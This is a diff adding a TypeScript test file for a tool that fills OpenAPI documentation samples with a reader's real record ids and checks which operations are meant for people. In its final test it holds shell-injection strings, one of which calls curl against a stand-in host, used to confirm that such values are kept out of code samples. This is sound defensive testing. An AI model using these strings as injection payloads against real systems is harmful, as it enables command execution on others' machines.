@@ -1,0 +1,100 @@
+import { fillIn } from '../browser/src/fill-in';
+import { createIsForPeople, type OpenApi, type Operation } from '../browser/src/operations';
+import { findIds } from '../browser/src/reader';
+import { buildOpenApi } from '../src/openapi/build-openapi';
+import { exampleIds } from '../src/openapi/example-values';
+import { routes } from '../src/routes';
+
+const document = buildOpenApi(routes, 'http://127.0.0.1:8080') as unknown as OpenApi;
+/** Ids of a reader: as long as those of the examples, and none of them. */
+const ids = Object.fromEntries(Object.keys(exampleIds).map((name) => [name, `real-${name}`]));
+const filled = fillIn(document, exampleIds, ids);
+const operations = (of: OpenApi) =>
+  Object.entries(of.paths).flatMap(([path, item]) => Object.entries(item).map(([method, operation]) => ({ path, method, operation })));
+const examples = Object.values(exampleIds);
+const hasExampleId = (operation: Operation) => examples.some((id) => JSON.stringify(operation).includes(id));
+
+test('[decision 27.3] reads and their samples show the records of the reader', () => {
+  const reads = operations(filled).filter(({ method }) => method === 'get');
+  expect(reads.length).toBeGreaterThan(20);
+  expect(reads.filter(({ operation }) => hasExampleId(operation))).toEqual([]);
+  expect(JSON.stringify(filled.paths['/consents/{id}']?.['get'])).toContain('$BASE_URL/consents/real-consent');
+});
+
+test('[decision 27.3] no change or deletion names a record of the reader', () => {
+  const additions = ['createConsent', 'createConsentBatch', 'createExport'];
+  const writes = operations(filled).filter(
+    ({ method, operation }) => method !== 'get' && !additions.includes(operation.operationId as string),
+  );
+  expect(writes.length).toBeGreaterThan(20);
+  expect(writes.filter(({ operation }) => JSON.stringify(operation).includes('real-'))).toEqual([]);
+});
+
+test('a consent is recorded for the site of the reader', () => {
+  expect(JSON.stringify(filled.paths['/consents']?.['post']?.['x-codeSamples'])).toContain('real-site');
+  const { schemas } = filled['components'] as { schemas: Record<string, { examples: { site_id: string }[] }> };
+  expect(schemas['CreateConsent']?.examples[0]?.site_id).toBe('real-site');
+});
+
+test('optional parameters have no example to be sent; what is required has', () => {
+  const parameters = operations(filled).flatMap(({ operation }) => operation.parameters ?? []);
+  expect(parameters.filter(({ required, schema }) => required !== true && schema?.examples !== undefined)).toEqual([]);
+  expect(parameters.filter(({ required, example }) => required === true && example === undefined)).toEqual([]);
+  const cursor = filled.paths['/consents']?.['get']?.parameters?.find(({ name }) => name === 'cursor');
+  expect(cursor?.description).toMatch(/Example: `ey\w+`$/);
+});
+
+test('the document itself stays as it was', () => {
+  expect(document).toEqual(buildOpenApi(routes, 'http://127.0.0.1:8080'));
+});
+
+test('what a reader does not have keeps the example', () => {
+  const some = fillIn(document, exampleIds, { site: 'real-site' });
+  expect(JSON.stringify(some.paths['/consents/{id}'])).toContain(exampleIds.consent);
+});
+
+test('operations for people are those that take a session and no key', () => {
+  const isForPeople = createIsForPeople(document, '/api/v1');
+  for (const { path, method, operation } of operations(document)) {
+    const url = `http://127.0.0.1:8080/api/v1${path.replaceAll(/\{\w+\}/g, 'x')}?limit=1`;
+    const schemes = (operation.security ?? []).flatMap(Object.keys);
+    const expected = schemes.includes('session') && !schemes.includes('apiKey');
+    expect([method, path, isForPeople({ method: method.toUpperCase(), url })]).toEqual([method, path, expected]);
+  }
+  expect(isForPeople({ method: 'GET', url: 'http://127.0.0.1:8080/api/v1/nothing' })).toBe(false);
+});
+
+test('ids are those of the newest records: a consent with a policy, an export that is ready', async () => {
+  const answers: Record<string, unknown> = {
+    '/consents': {
+      data: [
+        { id: 'c2', subject_id: 's2', site_id: 'site2', policy_version: null },
+        { id: 'c1', subject_id: 's1', site_id: 'site1', policy_version: 3 },
+      ],
+    },
+    '/policies': [{ id: 'p1' }],
+    '/exports': {
+      data: [
+        { id: 'e2', status: 'failed' },
+        { id: 'e1', status: 'ready', download_url: 'https://a/exports/download/token1' },
+      ],
+    },
+    '/sites': { data: [{ id: 'site9' }] },
+    '/keys': { data: [] },
+    '/webhooks/endpoints': undefined,
+    '/webhooks/deliveries': { data: [{ id: 'd1' }] },
+  };
+  const found = await findIds((path) => Promise.resolve(answers[path.split('?')[0] as string]));
+  expect(found).toEqual({
+    ...{ consent: 'c1', subject: 's1', policy: 'p1', export: 'e1', download: 'token1', site: 'site1', delivery: 'd1' },
+  });
+});
+
+test.each(['"; curl evil.example; "', "it's", '$(id)', 'a b', '`id`', ''])(
+  'a subject that a shell would read is not in a sample: %s',
+  async (subject) => {
+    const consents = { data: [{ id: 'c1', subject_id: subject, site_id: 'site1', policy_version: 3 }] };
+    const found = await findIds((path) => Promise.resolve(path.startsWith('/consents') ? consents : undefined));
+    expect(found).toEqual({ consent: 'c1', site: 'site1' });
+  },
+);
